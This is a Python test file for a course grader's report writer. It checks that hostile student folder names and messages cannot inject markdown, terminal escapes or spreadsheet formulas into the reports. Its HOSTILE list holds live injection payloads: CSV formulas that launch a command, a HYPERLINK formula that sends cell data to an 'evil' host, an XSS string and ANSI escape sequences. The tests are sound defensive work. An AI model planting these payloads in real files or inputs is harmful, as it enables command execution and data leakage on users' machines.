"""What grader.report writes stays the grader's own when students choose hostile folder names,
cell ids and code: no markdown structure in report.md, no terminal escapes,
no spreadsheet formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from grader import report
from grader.course import ClassResults, Grade
from grader.integrity import FAILED, NOTE, SUSPICIOUS, TAMPERED, Flag

LESSONS = ["01_least_squares", "02_newton"]
HONEST = ["Zoë Ångström", "ada.lovelace", "王小明"]
ESC = "\x1b"

# What students have put (or could put) in a folder name, a cell id or a message.
HOSTILE = [
    "mallory\n```\nNothing needs attention.\n![x](http://evil/x.png)\n```\n",
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    f"{ESC}[2J{ESC}[31mred{ESC}[0m{ESC}]0;pwned\x07",
    "line\u2028sep\u2029para\x85nel\x0bvt\x0cff",
    "<img src=x onerror=alert(1)>|a|b|",
    "\u202eevil\u2066x\u2069",
    "`` ``` ~~~",
    "[link](http://evil) ![img](http://evil/i.png)",
    "not-utf8-\udcff",  # how Python names a folder whose name is not UTF-8
]


def _results(workdir: Path, texts: list[str]) -> ClassResults:
    """A graded class whose students, unknown entries, details, cell ids, flag messages and
    exercise names are ``texts`` (cycled), beside the honest students."""
    text = lambda i: texts[i % len(texts)]
    students = sorted({*texts, *HONEST})
    results = ClassResults(students, LESSONS, unknown=[f"{t}/{t}" for t in texts], isolation="test",
                           workdir=workdir)
    for i, student in enumerate(students):
        for j, lesson in enumerate(LESSONS):
            grade = results.grades[student, lesson] = Grade(student, lesson, score=float(i % 11),
                                                            max_score=10.0)
            if student in HONEST:
                continue
            grade.flags = [Flag(SUSPICIOUS, text(i + j), text(i + j + 1)),
                           Flag(NOTE, "", text(i + j + 2))]
            if j == 1:  # one failed lesson per hostile student
                grade.status, grade.score, grade.detail = "failed", 0.0, text(i)
                grade.flags.append(Flag(FAILED, "", text(i)))
            results.cell_scores[student, lesson] = {"ex1": (grade.score / 2, 5.0),
                                                    text(j): (grade.score / 2, 5.0)}
    results.grades[HONEST[0], LESSONS[0]].flags = [Flag(TAMPERED, "ada.lovelace", "Zoë Ångström")]
    return results


@pytest.fixture
def hostile(tmp_path) -> ClassResults:
    (tmp_path / "hostile").mkdir()
    results = _results(tmp_path / "hostile", HOSTILE)
    report.write_all(results)
    return results


@pytest.fixture
def benign(tmp_path) -> ClassResults:
    """The same class with each hostile string replaced by a plain one: the report's
    shape to expect."""
    (tmp_path / "benign").mkdir()
    results = _results(tmp_path / "benign", [f"student{i:02d}" for i in range(len(HOSTILE))])
    report.write_all(results)
    return results


def _outside_fences(lines: list[str]) -> list[str]:
    """The lines of report.md that are not inside a ``` block (the fences themselves included)."""
    outside, inside = [], False
    for line in lines:
        if line == "```":
            inside = not inside
        elif not inside:
            outside.append(line)
    return outside


def _is_control(c: str) -> bool:
    """C0/C1 controls, line and paragraph separators, a right-to-left override, a lone surrogate."""
    return (ord(c) < 32 or 0x7F <= ord(c) <= 0x9F or c in "\u2028\u2029\u202e"
            or 0xD800 <= ord(c) <= 0xDFFF)


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_report_md_keeps_the_graders_structure(hostile, benign):
    lines = (hostile.workdir / "report.md").read_text(encoding="utf-8").splitlines()
    expected = (benign.workdir / "report.md").read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(expected), "hostile strings changed the number of lines in report.md"
    assert sum(line == "```" for line in lines) == 4, (
        "a student string opened or closed a code fence")
    assert _outside_fences(lines) == _outside_fences(expected), (
        "a student string reached outside the fences")
    assert lines[4] == f"Needs attention: {len(hostile.attention())} submission(s).", lines[:5]
    assert "Nothing needs attention." not in lines, "a student wrote the grader's all-clear line"
    assert not any(line.lstrip().startswith(("```", "~~~")) for line in lines if line != "```"), \
        "a line inside the report could be read as a fence"
    inside = [line for line in lines if line not in _outside_fences(lines) and line != "```"]
    assert not any("`" in line for line in inside), (
        "a backtick from a student survived in a fenced block")


def test_report_md_has_no_student_links_or_images(hostile):
    text = (hostile.workdir / "report.md").read_text(encoding="utf-8")
    for line in _outside_fences(text.splitlines()):
        if "![" in line or "](" in line:
            assert line == "![totals](grades_histogram.png)", (
                f"student markdown outside the fences: {line!r}")
    mistune = pytest.importorskip("mistune")
    tokens = mistune.create_markdown(renderer=None)(text)
    assert [t["type"] for t in tokens].count("block_code") == 2, (
        "the fenced blocks were split or merged")

    def walk(nodes):
        for node in nodes:
            yield node
            yield from walk(node.get("children", []))

    targets = [t["attrs"]["url"] for t in walk(tokens) if t["type"] in ("link", "image")]
    assert targets == ["grades_histogram.png"], f"links or images in the rendered report: {targets}"


def test_no_control_characters_reach_the_report_or_the_terminal(hostile):
    outputs = {"report.md": (hostile.workdir / "report.md").read_text(encoding="utf-8"),
               "score_table": report.score_table(hostile),
               "summary_table": report.summary_table(hostile)}
    for name, text in outputs.items():
        assert ESC not in text, f"an escape sequence reached {name}"
        bad = {c for c in text if c != "\n" and _is_control(c)}
        assert not bad, f"control characters in {name}: {bad}"


def test_score_table_has_one_line_per_row(hostile, benign):
    lines, expected = (report.score_table(hostile).splitlines(),
                       report.score_table(benign).splitlines())
    assert len(lines) == len(expected), "a student string added lines to the score table"
    summary, expected = (report.summary_table(hostile).splitlines(),
                         report.summary_table(benign).splitlines())
    assert len(summary) == len(expected), "a student string added lines to the summary table"


def test_csvs_start_no_field_with_a_formula(hostile):
    for name in ("grades.csv", "integrity.csv"):
        rows = _rows(hostile.workdir / name)
        assert len(rows) > 1, f"{name} has no rows"
        for row in rows:
            for field in row:
                assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), (
                    f"{name}: formula in {field!r}")
                assert not field.lstrip().startswith(("=", "+", "-", "@")), \
                    f"{name}: formula after spaces in {field!r}"
                assert not any(map(_is_control, field)), f"{name}: control character in {field!r}"


def test_csv_headers_and_numbers_are_unchanged(hostile):
    grades, flags = _rows(hostile.workdir / "grades.csv"), _rows(hostile.workdir / "integrity.csv")
    assert grades[0] == ["student", "lesson", "score", "max_score", "status", "detail", "flags",
                         "manual_pending", "kernel_cpu_s", "late_penalty",
                         "submitted_at"], grades[0]
    assert flags[0] == ["student", "lesson", "kind", "cell", "message", "needs_attention"], flags[0]
    assert len(grades) == 1 + len(hostile.grades), (
        "a student string added or removed rows in grades.csv")
    max_score = {g.max_score for g in hostile.grades.values()}
    assert len(max_score) == 1 and all(float(r[2]) >= 0 and float(r[3]) in max_score
                                       for r in grades[1:]), "score columns changed"
    assert all(float(r[7]) >= 0 and float(r[8]) >= 0 for r in grades[1:]), (
        "pending and CPU columns changed")
    assert {r[5] for r in flags[1:]} == {"True", "False"}, "needs_attention column changed"
    hyperlink = next(r for r in grades[1:] if "HYPERLINK" in r[0])
    assert hyperlink[0] == "'" + HOSTILE[1], (
        f"a formula keeps its text behind the quote: {hyperlink[0]!r}")


def test_honest_names_come_through_unchanged(hostile):
    table = report.score_table(hostile)
    text = (hostile.workdir / "report.md").read_text(encoding="utf-8")
    grades = _rows(hostile.workdir / "grades.csv")
    flags = _rows(hostile.workdir / "integrity.csv")
    for name in HONEST:
        assert any(line.startswith(name + " ") for line in table.splitlines()), (
            f"{name} lost in the score table")
        assert name in text, f"{name} lost in report.md"
        assert [name, LESSONS[0]] in [r[:2] for r in grades], f"{name} changed in grades.csv"
    assert ["Zoë Ångström", LESSONS[0], TAMPERED, "ada.lovelace", "Zoë Ångström",
            "True"] in flags, "an honest flag changed in integrity.csv"


def test_score_table_stays_aligned_with_wide_and_hostile_names(hostile):
    rows = report.score_table(hostile).splitlines()[:2 + len(hostile.students)]
    # The integrity column (left-aligned, last) starts at the same terminal column on every row;
    # the CJK name is two columns a character, so len() alone would not align it.
    start = report._width(rows[0][:rows[0].index("integrity")])
    for student, row in zip(hostile.students, rows[2:]):
        summary = report.integrity_summary([hostile.grades[student, lesson] for lesson in LESSONS])
        assert row.endswith(summary), (
            f"row of {student!r} does not end in its integrity column: {row!r}")
        assert report._width(row[:-len(summary)]) == start, f"row of {student!r} misaligned: {rows}"
